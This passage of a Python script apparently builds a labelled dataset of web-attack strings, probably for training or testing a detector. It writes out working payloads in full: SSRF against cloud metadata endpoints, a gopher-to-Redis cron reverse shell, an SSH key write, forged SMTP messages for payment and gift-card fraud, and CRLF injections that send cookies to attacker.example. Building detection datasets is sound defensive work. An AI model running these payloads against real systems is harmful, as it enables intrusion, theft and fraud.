        add(name, "http://%s:%s%s" % (host, port, path), True)
    add("loopback+backslash-confusion", "http://127.0.0.1:6379\\@hooks.partner.io/")
    add("dns-rebinding", "http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/")
    # gopher to Redis (cron job write) and SMTP, dict, file
    cmds = [["FLUSHALL"], ["SET", "1", "\n\n*/1 * * * * bash -c 'sh -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n\n"],
            ["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"], ["CONFIG", "SET", "dbfilename", "root"], ["SAVE"]]
    resp = "".join("*%d\r\n" % len(c) + "".join("$%d\r\n%s\r\n" % (len(a), a) for a in c) for c in cmds)
    add("gopher-redis", "gopher://127.0.0.1:6379/_" + q(resp))
    smtp = ("HELO x\r\nMAIL FROM:<ceo@acme-outfitters.com>\r\nRCPT TO:<finance@acme-outfitters.com>\r\nDATA\r\n"
            "Subject: Urgent supplier payment\r\n\r\nPlease wire 48,000 EUR today to IBAN DE00 0000 0000 0000 0000 00.\r\n.\r\nQUIT\r\n")
    add("gopher-smtp", "gopher://127.0.0.1:25/_" + q(smtp))
    http_req = "POST /internal/staff HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Type: application/json\r\nContent-Length: 45\r\n\r\n{\"email\":\"x@attacker.example\",\"role\":\"owner\"}"
    add("gopher-internal-http", "gopher://10.0.0.5:8080/_" + q(http_req))
    add("dict-redis", "dict://127.0.0.1:6379/config:set:dir:/var/www/html")
    add("dict-memcached", "dict://127.0.0.1:11211/stats")
    add("file-scheme", "file:///etc/passwd")
    add("ldap-scheme", "ldap://127.0.0.1:389/dc=internal,dc=corp??sub?(objectClass=*)")
    add("netdoc-scheme-file-read", "netdoc:///etc/passwd")
    add("svg-renderer-fetch", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="800" height="600"/></svg>')
    add("html-renderer-fetch", '<iframe src="http://169.254.169.254/latest/user-data" width="1000" height="1000"></iframe>')
    # CRLF / header injection
    redirects = ["/account", "/checkout/thank-you", "https://shop.example.com/orders/10234"]
    crlf = [
        ("crlf-set-cookie+urlenc", "return_to=%s%%0d%%0aSet-Cookie:%%20session_id=attacker-fixed-7731;%%20Path=/;%%20HttpOnly" % pick(redirects)),
        ("crlf-set-cookie", "/account\r\nSet-Cookie: platform_session=fixated-4411; Domain=.example.com; Path=/"),
        ("crlf-set-cookie+double-urlenc", "next=/cart%250d%250aSet-Cookie:%2520csrf_token=attacker"),
        ("crlf-location", "https://shop.example.com/thanks%0D%0ALocation:%20https://attacker.example/phish"),
        ("crlf-response-splitting", "/orders%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0aContent-Length:%2052%0d%0a%0d%0a<script>location='//attacker.example/'+document.cookie</script>"),
        ("crlf-response-splitting-filename", 'invoice-10234.pdf"\r\nContent-Type: text/html\r\n\r\n<script>fetch(\'//attacker.example/\'+document.cookie)</script>'),
        ("crlf-x-accel-redirect", "/downloads/export.csv%0d%0aX-Accel-Redirect:%20/internal/backups/db.sql.gz"),
        ("crlf-header-injection-cors", "lang=de%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true"),
        ("crlf-unicode-truncation", "/r?x=嘍嘊Set-Cookie:%20session=attacker嘍嘊"),
        ("crlf-unicode-truncation+urlenc", "/account%E5%98%8D%E5%98%8ALocation:%20https://attacker.example/"),
        ("crlf-mail-bcc", "Your order update\r\nBcc: list@attacker.example"),
        ("crlf-mail-bcc+urlenc", "subject=Order%20shipped%0d%0aBcc:%20everyone@attacker.example"),
        ("crlf-mail-cc", "customer@example.com%0ACc:victim1@example.org,victim2@example.org"),
        ("crlf-mail-recipient", "anna.k@example.com\r\nBcc: harvest@attacker.example\r\nX-Mailer: bulk"),
        ("crlf-mail-reply-to", "Acme Outfitters\r\nReply-To: billing@attacker.example"),
        ("crlf-mail-body-injection", "Order 10234\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Payment failed - update your card</a>"),
        ("crlf-smtp-injection", "support@acme-outfitters.com>\r\nDATA\r\nFrom: ceo@acme-outfitters.com\r\nSubject: Gift cards needed\r\n\r\nBuy 10 gift cards and send me the codes.\r\n.\r\nMAIL FROM:<x@acme-outfitters.com"),
        ("crlf-log-forging", "checkout\n2025-03-04 10:00:01 INFO admin login succeeded user=owner ip=10.0.0.1"),
        ("crlf-log-forging+urlenc", "q=mug%0d%0a2025-03-04T10:00:02Z%20level=info%20msg=%22refund%20approved%22%20amount=4999%20actor=owner"),
        ("crlf-request-injection", "http://10.0.0.5:8080/ HTTP/1.1\r\nHost: 10.0.0.5\r\n\r\nDELETE /admin/users/1 HTTP/1.1\r\nHost: 10.0.0.5\r\nX-Ignore: "),
        ("crlf-request-injection-redis", "http://127.0.0.1:6379/\r\nCONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\nSAVE\r\n"),
        ("crlf-request-smuggling", "https://hooks.partner.io/x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("crlf-cache-poisoning", "/products/mug%0d%0aX-Forwarded-Host:%20attacker.example%0d%0aCache-Control:%20public,%20max-age=31536000"),
        ("crlf-set-cookie+lf-only", "/account%0aSet-Cookie:%20cart_token=attacker;%20Path=/"),
    ]
    for cls, v in crlf:
        out.append((cls if cls.startswith("ssrf") else "crlf-" + cls[len("crlf-"):], v))
    return out


CATEGORIES = [
    ("sqli", sqli),
    ("xss", xss),
    ("cmdi", cmdi),
    ("traversal", traversal),
    ("code", code),
    ("ssrf-crlf", ssrf_crlf),
]


def main():
    rows, seen, counts = [], set(), {}
    for cat, fn in CATEGORIES:
        for cls, v in fn():
            assert isinstance(v, str) and 0 < len(v) < MAX_LEN, (cat, cls, v)
            if v in seen:
                continue
            seen.add(v)
            counts[cat] = counts.get(cat, 0) + 1
            rows.append((cat, cls, v))
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha17-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    for cat, _ in CATEGORIES:
        print("%-10s %d" % (cat, counts.get(cat, 0)))
    print("%-10s %d" % ("total", len(rows)))


if __name__ == "__main__":
    main()
